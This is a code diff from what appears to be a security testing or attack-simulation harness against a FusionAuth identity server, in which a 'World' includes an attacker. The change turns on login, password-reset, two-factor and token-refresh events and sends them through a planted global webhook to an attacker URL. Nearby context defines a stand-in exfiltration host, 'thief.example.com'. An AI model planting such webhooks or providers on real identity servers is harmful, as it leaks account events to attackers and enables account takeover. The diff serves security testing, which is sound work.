@@ -39,6 +39,8 @@ TENANT_HEADER = {"X-FusionAuth-TenantId": DEFAULT_TENANT}
 MERGE_PATCH = {"Content-Type": "application/merge-patch+json"}
 STOLEN = "https://thief.example.com/?id="
 RECONCILE = "function reconcile(user, registration, idToken) { user.data.seen = true; }"
+_EVENTS = ("audit-log.create", "event-log.create", "jwt.refresh", "user.login.success", "user.password.reset.send",
+           "user.password.reset.start", "user.two-factor.challenge", "user.update")  # fmt: skip
 _REFRESHING = ("generateRefreshTokens", "allowTokenRefresh")
 _TIMEOUTS = {"connectTimeout": 500, "readTimeout": 1000}
 _VALIDATE = "function validate(result, user, registration, context) {}"
@@ -158,6 +160,7 @@ async def _configure(world: World) -> None:
         "emailConfiguration": world.attacker.mailbox.configuration(**mails),
         "passwordEncryptionConfiguration": relying_party.CHEAP,
         "oauthConfiguration": {"clientRegistrationEnabled": True},
+        "eventConfiguration": {"events": {name: {"enabled": True, "transactionType": "None"} for name in _EVENTS}},
         "familyConfiguration": {"enabled": True},
         "multiFactorConfiguration": {"authenticator": workflow, "email": {**workflow, "templateId": template}},
         "webAuthnConfiguration": {**workflow, "bootstrapWorkflow": workflow},
@@ -193,7 +196,10 @@ async def _plant(world: World) -> None:
         ),
         ("/api/messenger", {"messenger": {"name": new_id(), **_TIMEOUTS, "type": "Generic", "url": url}}),
         ("/api/user-action", {"userAction": {"name": new_id(), "temporal": True, "preventLogin": True}}),
-        ("/api/webhook", {"webhook": {**_TIMEOUTS, "url": url, "global": True}}),
+        (
+            "/api/webhook",
+            {"webhook": {**_TIMEOUTS, "url": url, "global": True, "eventsEnabled": dict.fromkeys(_EVENTS, True)}},
+        ),
         ("/api/identity-provider", provider_of(world.attacker.provider, world.rp.client_id)),
     ]
     for path, wanted in planted:
